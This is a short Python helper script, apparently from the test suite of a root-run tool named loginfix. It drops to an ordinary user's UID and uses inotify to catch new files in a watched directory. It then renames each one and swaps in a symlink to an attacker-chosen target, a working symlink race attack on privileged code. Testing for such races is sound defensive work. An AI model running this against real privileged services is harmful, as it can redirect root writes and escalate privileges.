"""Run as a home's owner against loginfix running as root: waits (inotify) for a new
entry in WATCH and swaps it at once for a symlink to TARGET (the original is renamed
to NAME.moved), as a hostile user would. Prints `ready` once watching, then one line
per swap. Usage: swap_on_create.py UID GID WATCH TARGET [PREFIX]"""
import ctypes
import os
import struct
import sys

uid, gid, watch, target = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
prefix = sys.argv[5] if len(sys.argv) > 5 else ""
os.setgroups([])
os.setgid(gid)
os.setuid(uid)
libc = ctypes.CDLL(None, use_errno=True)
IN_CREATE = 0x100
fd = libc.inotify_init1(0)
if fd < 0 or libc.inotify_add_watch(fd, watch.encode(), IN_CREATE) < 0:
    print("inotify failed", ctypes.get_errno(), flush=True)
    sys.exit(1)
print("ready", flush=True)
while True:
    buf = os.read(fd, 65536)
    i = 0
    while i < len(buf):
        _, _, _, length = struct.unpack_from("iIII", buf, i)
        name = buf[i + 16 : i + 16 + length].rstrip(b"\0").decode(errors="replace")
        i += 16 + length
        if not name.startswith(prefix) or name.endswith(".moved"):
            continue
        path = os.path.join(watch, name)
        try:
            os.rename(path, path + ".moved")
            os.symlink(target, path)
            print("swapped", name, flush=True)
        except OSError as e:
            print("missed", name, e, flush=True)
